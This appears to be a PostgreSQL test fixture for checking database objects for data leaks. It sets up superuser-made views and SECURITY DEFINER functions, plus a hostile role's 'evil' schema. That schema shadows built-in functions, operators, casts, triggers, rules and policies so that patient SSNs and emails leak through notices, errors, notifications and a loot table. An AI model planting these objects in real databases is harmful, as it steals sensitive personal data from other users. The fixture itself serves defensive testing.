-- What a superuser (first part) and the hostile user mallory (second part) have made directly.
-- mallory belongs to analysts: code that runs with her rights can read clinic.* raw.

CREATE SCHEMA left_by_dba;
GRANT USAGE ON SCHEMA left_by_dba TO PUBLIC;
CREATE VIEW left_by_dba.plain AS SELECT id, ssn AS x, last_name AS y FROM clinic.patients;
CREATE VIEW left_by_dba.computed AS
  SELECT id, ssn || '' AS a, upper(last_name) AS b, to_jsonb(p) AS c, p AS d, (p.dob + 0) AS e,
    ARRAY[ssn, mrn] AS f, coalesce(NULL, email) AS g, (SELECT max(q.ssn) FROM clinic.patients q) AS h
  FROM clinic.patients p;
CREATE VIEW left_by_dba.united AS
  SELECT name AS n FROM clinic.providers UNION ALL SELECT last_name FROM clinic.patients;
CREATE VIEW left_by_dba.nested AS
  WITH x AS (SELECT * FROM left_by_dba.plain) SELECT z.x AS inner_x, z.* FROM x z;
CREATE VIEW left_by_dba.star WITH (security_barrier) AS SELECT * FROM clinic.patients;
CREATE VIEW left_by_dba.rows AS SELECT u.* FROM clinic.patients p, LATERAL (SELECT p.ssn AS s) u;
CREATE VIEW left_by_dba.json AS
  SELECT j.* FROM clinic.patients p, json_to_record(row_to_json(p)) AS j(ssn text, mrn text, email text);
CREATE VIEW left_by_dba.crosstab AS
  SELECT u.v FROM clinic.patients p CROSS JOIN LATERAL unnest(ARRAY[p.mrn, p.email]) AS u(v);
CREATE MATERIALIZED VIEW left_by_dba.stored AS SELECT id, ssn AS s, email || ' ' AS m FROM clinic.patients;
CREATE MATERIALIZED VIEW left_by_dba.aggregated AS
  SELECT state, string_agg(ssn, ',') AS all_ssn, max(last_name) AS greatest FROM clinic.patients GROUP BY state;
CREATE TABLE left_by_dba.child (extra int) INHERITS (clinic.patients);
INSERT INTO left_by_dba.child (id, mrn, ssn, first_name, last_name, dob)
  SELECT id + 10000, mrn || 'c', ssn, first_name, last_name, dob FROM ONLY clinic.patients LIMIT 3;
CREATE STATISTICS left_by_dba.together (mcv) ON ssn, last_name FROM clinic.patients;
CREATE FUNCTION left_by_dba.definer() RETURNS SETOF clinic.patients LANGUAGE sql STABLE SECURITY DEFINER
  AS 'SELECT * FROM clinic.patients';
CREATE FUNCTION left_by_dba.definer_one(text) RETURNS text LANGUAGE sql STABLE SECURITY DEFINER
  AS 'SELECT ssn FROM clinic.patients WHERE mrn > $1 LIMIT 1';
CREATE VIEW left_by_dba.by_function AS SELECT * FROM left_by_dba.definer();
CREATE VIEW left_by_dba.by_function_one AS SELECT left_by_dba.definer_one('') AS v;
CREATE TABLE left_by_dba.logged (a int, b text);
CREATE FUNCTION left_by_dba.on_write() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS
  $$ BEGIN NEW.b := (SELECT ssn FROM clinic.patients LIMIT 1); RETURN NEW; END $$;
CREATE TRIGGER logged BEFORE INSERT OR UPDATE ON left_by_dba.logged
  FOR EACH ROW EXECUTE FUNCTION left_by_dba.on_write();
CREATE TABLE left_by_dba.ruled (a int, b text);
CREATE RULE ruled AS ON INSERT TO left_by_dba.ruled DO INSTEAD
  SELECT ssn FROM clinic.patients LIMIT 3;
CREATE TABLE left_by_dba.defaulted (a int, b text DEFAULT left_by_dba.definer_one(''));
CREATE FUNCTION left_by_dba.notifier() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS
  $$ BEGIN PERFORM pg_notify('c', (SELECT ssn FROM clinic.patients LIMIT 1)); RETURN NEW; END $$;
CREATE TABLE left_by_dba.notifying (a int, b text);
CREATE TRIGGER notifying AFTER INSERT ON left_by_dba.notifying
  FOR EACH ROW EXECUTE FUNCTION left_by_dba.notifier();
CREATE FUNCTION left_by_dba.at_commit() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS
  $$ BEGIN RAISE EXCEPTION 'no: %', (SELECT ssn FROM clinic.patients LIMIT 1); END $$;
CREATE TABLE left_by_dba.deferred (a int, b text);
CREATE CONSTRAINT TRIGGER deferred AFTER INSERT ON left_by_dba.deferred
  DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION left_by_dba.at_commit();
CREATE TABLE left_by_dba.secured (a int, b text);
INSERT INTO left_by_dba.secured VALUES (1, 'x');
ALTER TABLE left_by_dba.secured ENABLE ROW LEVEL SECURITY;
CREATE FUNCTION left_by_dba.loud(int) RETURNS boolean LANGUAGE plpgsql STABLE SECURITY DEFINER AS
  $$ BEGIN RAISE NOTICE '%', (SELECT ssn FROM clinic.patients LIMIT 1); RETURN true; END $$;
CREATE POLICY loud ON left_by_dba.secured USING (left_by_dba.loud(a));
GRANT ALL ON ALL TABLES IN SCHEMA left_by_dba TO PUBLIC;

GRANT REFERENCES ON ALL TABLES IN SCHEMA clinic TO mallory;

CREATE SCHEMA evil AUTHORIZATION mallory;
SET ROLE mallory;

CREATE FUNCTION evil.steal() RETURNS text LANGUAGE plpgsql STABLE AS
  $$ DECLARE v text; BEGIN
    SELECT string_agg(ssn || email, ',') INTO v FROM clinic.patients; RAISE NOTICE '%', v; RETURN v;
  END $$;
CREATE FUNCTION evil.still() RETURNS text LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN RETURN (SELECT max(ssn) FROM clinic.patients); END $$;
CREATE FUNCTION evil.echo(text) RETURNS text LANGUAGE plpgsql STABLE AS
  $$ BEGIN RAISE NOTICE 'echo %', $1; RETURN evil.steal(); END $$;
CREATE FUNCTION evil.gen(int) RETURNS text LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN RETURN (SELECT max(ssn) FROM clinic.patients); END $$;
CREATE FUNCTION evil.rowed(clinic.patients) RETURNS text LANGUAGE sql STABLE AS 'SELECT max(ssn) FROM clinic.patients';
CREATE FUNCTION evil.lower(text) RETURNS text LANGUAGE sql STABLE AS 'SELECT evil.steal()';
CREATE FUNCTION evil.upper(varchar) RETURNS text LANGUAGE sql STABLE AS 'SELECT evil.steal()';
CREATE FUNCTION evil."left"(text, int) RETURNS text LANGUAGE sql STABLE AS 'SELECT evil.steal()';
CREATE FUNCTION evil."right"(text, int) RETURNS text LANGUAGE sql STABLE AS 'SELECT evil.steal()';
CREATE FUNCTION evil.btrim(text) RETURNS text LANGUAGE sql STABLE AS 'SELECT evil.steal()';
CREATE FUNCTION evil.concat(VARIADIC text[]) RETURNS text LANGUAGE sql STABLE AS 'SELECT evil.steal()';
CREATE FUNCTION evil.now() RETURNS text LANGUAGE sql STABLE AS 'SELECT evil.steal()';
CREATE FUNCTION evil.count(text) RETURNS text LANGUAGE sql STABLE AS 'SELECT evil.steal()';
CREATE FUNCTION evil.coalesce(text, text) RETURNS text LANGUAGE sql STABLE AS 'SELECT evil.steal()';
CREATE FUNCTION evil.date_trunc(text, timestamp) RETURNS timestamp LANGUAGE sql STABLE AS 'SELECT dob::timestamp FROM clinic.patients LIMIT 1';
CREATE FUNCTION evil.json_scalar(int) RETURNS text LANGUAGE sql STABLE AS 'SELECT evil.steal()';
CREATE FUNCTION evil.step(text, text) RETURNS text LANGUAGE sql STABLE AS 'SELECT evil.steal()';
CREATE AGGREGATE evil.collect(text) (SFUNC = evil.step, STYPE = text);
CREATE AGGREGATE evil.max(text) (SFUNC = evil.step, STYPE = text);
CREATE PROCEDURE evil.proc() LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.steal(); END $$;
CREATE FUNCTION evil.cat(text, text) RETURNS text LANGUAGE sql STABLE AS 'SELECT evil.steal()';
CREATE FUNCTION evil.same(text, text) RETURNS boolean LANGUAGE plpgsql STABLE AS
  $$ BEGIN RAISE NOTICE '%', evil.steal(); RETURN true; END $$;
CREATE FUNCTION evil.fail(text, text) RETURNS boolean LANGUAGE plpgsql STABLE AS
  $$ BEGIN RAISE EXCEPTION '%', evil.steal() USING DETAIL = evil.steal(), HINT = evil.still(), TABLE = evil.still(); END $$;
CREATE FUNCTION evil.neg(int) RETURNS text LANGUAGE sql STABLE AS 'SELECT evil.steal()';
CREATE FUNCTION evil.add(int, int) RETURNS text LANGUAGE sql STABLE AS 'SELECT evil.steal()';
CREATE OPERATOR evil.|| (leftarg = text, rightarg = text, function = evil.cat);
CREATE OPERATOR evil.= (leftarg = text, rightarg = text, function = evil.fail);
CREATE OPERATOR evil.<> (leftarg = text, rightarg = text, function = evil.same);
CREATE OPERATOR evil.~~ (leftarg = text, rightarg = text, function = evil.fail);
CREATE OPERATOR evil.~~* (leftarg = text, rightarg = text, function = evil.fail);
CREATE OPERATOR evil.~ (leftarg = text, rightarg = text, function = evil.fail);
CREATE OPERATOR evil.< (leftarg = text, rightarg = text, function = evil.fail);
CREATE OPERATOR evil.>= (leftarg = text, rightarg = text, function = evil.fail);
CREATE OPERATOR evil.<= (leftarg = text, rightarg = text, function = evil.fail);
CREATE OPERATOR evil.- (rightarg = int, function = evil.neg);
CREATE OPERATOR evil.+ (leftarg = int, rightarg = int, function = evil.add);
CREATE OPERATOR evil.### (leftarg = text, rightarg = text, function = evil.cat);

CREATE FUNCTION evil.check_dom(text) RETURNS boolean LANGUAGE plpgsql STABLE AS
  $$ BEGIN RAISE EXCEPTION 'dom %', (SELECT max(ssn) FROM clinic.patients); END $$;
CREATE DOMAIN evil.dom AS text CHECK (evil.check_dom(VALUE));
CREATE DOMAIN evil.dom_of_dom AS evil.dom;
CREATE DOMAIN evil.defaulting AS text DEFAULT evil.steal();
CREATE TYPE evil.comp AS (a int, b evil.dom);
CREATE TYPE evil.color AS ENUM ('red', 'green');
CREATE FUNCTION evil.color_text(evil.color) RETURNS text LANGUAGE sql STABLE AS 'SELECT evil.steal()';
CREATE FUNCTION evil.color_json(evil.color) RETURNS json LANGUAGE sql STABLE AS 'SELECT to_json(max(ssn)) FROM clinic.patients';
CREATE FUNCTION evil.color_int(evil.color) RETURNS int LANGUAGE plpgsql STABLE AS
  $$ BEGIN RAISE EXCEPTION '%', (SELECT max(ssn) FROM clinic.patients); END $$;
CREATE FUNCTION evil.color_same(evil.color, evil.color) RETURNS boolean LANGUAGE plpgsql STABLE AS
  $$ BEGIN RAISE EXCEPTION '%', (SELECT max(ssn) FROM clinic.patients); END $$;
CREATE CAST (evil.color AS text) WITH FUNCTION evil.color_text(evil.color) AS IMPLICIT;
CREATE CAST (evil.color AS json) WITH FUNCTION evil.color_json(evil.color) AS IMPLICIT;
CREATE CAST (evil.color AS int) WITH FUNCTION evil.color_int(evil.color) AS ASSIGNMENT;
CREATE OPERATOR evil.= (leftarg = evil.color, rightarg = evil.color, function = evil.color_same);
CREATE FUNCTION evil.span_diff(text, text) RETURNS float8 LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN RAISE EXCEPTION '%', (SELECT max(ssn) FROM clinic.patients); END $$;
CREATE TYPE evil.span AS RANGE (subtype = text, subtype_diff = evil.span_diff);

CREATE TABLE evil.tab (a int, c evil.color, t text);
INSERT INTO evil.tab VALUES (1, 'red', 'x'), (2, 'green', 'y');
CREATE TABLE evil.defaulted (a int, b text DEFAULT evil.steal());
CREATE TABLE evil.generated (a int, b text GENERATED ALWAYS AS (evil.gen(a)) STORED);
CREATE TABLE evil.checked (a int, b text, CHECK (evil.check_dom(b)));
CREATE TABLE evil.with_domain (a int, b evil.dom);
CREATE TABLE evil.with_default_domain (a int, b evil.defaulting);
CREATE TABLE evil.indexed (a int);
CREATE INDEX ON evil.indexed ((evil.gen(a)));
CREATE TABLE evil.partial (a int);
CREATE INDEX ON evil.partial (a) WHERE evil.gen(a) > '';
CREATE TABLE evil.triggered (a int, b text);
CREATE FUNCTION evil.trig() RETURNS trigger LANGUAGE plpgsql AS
  $$ BEGIN NEW.b := evil.still(); RETURN NEW; END $$;
CREATE TRIGGER t BEFORE INSERT OR UPDATE ON evil.triggered FOR EACH ROW EXECUTE FUNCTION evil.trig();
CREATE FUNCTION evil.trig_stmt() RETURNS trigger LANGUAGE plpgsql AS
  $$ BEGIN INSERT INTO evil.loot SELECT ssn FROM clinic.patients; RAISE NOTICE '%', evil.still(); RETURN NULL; END $$;
CREATE TABLE evil.loot (v text);
CREATE TABLE evil.triggered_stmt (a int, b text);
CREATE TRIGGER t AFTER INSERT OR UPDATE OR DELETE OR TRUNCATE ON evil.triggered_stmt FOR EACH STATEMENT EXECUTE FUNCTION evil.trig_stmt();
CREATE TABLE evil.ruled (a int, b text);
CREATE RULE r AS ON INSERT TO evil.ruled DO ALSO INSERT INTO evil.loot SELECT ssn FROM clinic.patients;
CREATE RULE u AS ON UPDATE TO evil.ruled DO INSTEAD INSERT INTO evil.loot SELECT ssn FROM clinic.patients RETURNING 1, v;
CREATE TABLE evil.secured (a int, b text);
INSERT INTO evil.secured VALUES (1, 'x');
CREATE FUNCTION evil.loud(int) RETURNS boolean LANGUAGE plpgsql STABLE AS
  $$ BEGIN RAISE NOTICE '%', evil.still(); RETURN true; END $$;
ALTER TABLE evil.secured ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
CREATE POLICY p ON evil.secured USING (evil.loud(a)) WITH CHECK (evil.check_dom(b));
CREATE TABLE evil.parted (a int, b text) PARTITION BY RANGE ((evil.gen(a)));
CREATE TABLE evil.parted_default PARTITION OF evil.parted DEFAULT;
CREATE TABLE evil.parent (a int, b text);
CREATE TABLE evil.heir (CHECK (evil.check_dom(b))) INHERITS (evil.parent);
CREATE TABLE evil.list (a int, b text) PARTITION BY LIST (a);
CREATE TABLE evil.list1 PARTITION OF evil.list FOR VALUES IN (1);
CREATE TRIGGER t BEFORE INSERT ON evil.list1 FOR EACH ROW EXECUTE FUNCTION evil.trig();
CREATE TABLE evil.cascading (id int PRIMARY KEY);
CREATE TABLE evil.cascaded (id int REFERENCES evil.cascading ON UPDATE CASCADE ON DELETE CASCADE, b text);
CREATE TRIGGER t BEFORE UPDATE OR DELETE ON evil.cascaded FOR EACH ROW EXECUTE FUNCTION evil.trig_stmt();
INSERT INTO evil.cascading VALUES (1); INSERT INTO evil.cascaded VALUES (1, 'x');
CREATE TABLE evil.probe (mrn text REFERENCES clinic.patients (mrn) DEFERRABLE);
CREATE TABLE evil.plain (a int, b text);
INSERT INTO evil.plain VALUES (1, 'one');
CREATE TABLE evil.patients (id int, ssn text, name text);
CREATE VIEW evil.v_steal AS SELECT evil.steal() AS v;
CREATE VIEW evil.v_cat AS SELECT 'a' OPERATOR(evil.||) 'b' AS v;
CREATE VIEW evil.v_cast AS SELECT 'red'::evil.color::text AS v;
CREATE VIEW evil.v_implicit AS SELECT length(c) AS n, upper(c) AS v FROM evil.tab;
CREATE VIEW evil.v_dom AS SELECT t::evil.dom AS v FROM evil.tab;
CREATE VIEW evil.v_json AS SELECT row_to_json(w) AS v FROM evil.tab w;
CREATE VIEW evil.v_agg AS SELECT evil.collect(t) AS v FROM evil.tab;
CREATE VIEW evil.v_where AS SELECT 1 AS v WHERE evil.fail('a', 'b');
CREATE VIEW evil.v_order AS SELECT a FROM evil.tab ORDER BY evil.steal();
CREATE VIEW evil.v_limit AS SELECT a FROM evil.tab LIMIT length(evil.steal());
CREATE VIEW evil.v_from AS SELECT * FROM evil.steal();
CREATE VIEW evil.v_window AS SELECT evil.collect(t) OVER () AS v FROM evil.tab;
CREATE VIEW evil.v_write AS SELECT a, b FROM evil.plain;
CREATE FUNCTION evil.vol() RETURNS text LANGUAGE plpgsql AS $$ BEGIN INSERT INTO evil.loot SELECT ssn FROM clinic.patients; RAISE NOTICE 'vol'; PERFORM set_config('application_name', (SELECT max(ssn) FROM clinic.patients), false); RETURN 'x'; END $$;
CREATE VIEW evil.v_vol AS SELECT evil.vol() AS v, 1 AS one;
CREATE VIEW evil.v_vol2 AS SELECT 1 AS one FROM (SELECT evil.vol() OFFSET 0) x;
CREATE VIEW evil.v_vol3 AS SELECT a FROM evil.tab WHERE evil.vol() = 'x';
CREATE VIEW evil.v_still AS SELECT evil.still() AS v, 1 AS one;
CREATE VIEW evil.v_still2 AS SELECT a FROM evil.tab WHERE t <> evil.still();
CREATE VIEW evil.v_still3 AS SELECT a FROM evil.tab ORDER BY a LIMIT length(evil.still());
CREATE FUNCTION evil.instead() RETURNS trigger LANGUAGE plpgsql AS
  $$ BEGIN NEW.b := evil.still(); RETURN NEW; END $$;
CREATE TRIGGER i INSTEAD OF INSERT ON evil.v_write FOR EACH ROW EXECUTE FUNCTION evil.instead();
CREATE VIEW evil.v_check AS SELECT a, b FROM evil.plain WHERE evil.check_dom(b) WITH CHECK OPTION;
CREATE VIEW evil.v_default AS SELECT a, b FROM evil.plain;
ALTER VIEW evil.v_default ALTER COLUMN b SET DEFAULT evil.still();
CREATE MATERIALIZED VIEW evil.mv AS SELECT 1 AS a WITH NO DATA;
CREATE SEQUENCE evil.seq;
CREATE TEXT SEARCH CONFIGURATION evil.conf (COPY = pg_catalog.simple);
RESET ROLE;
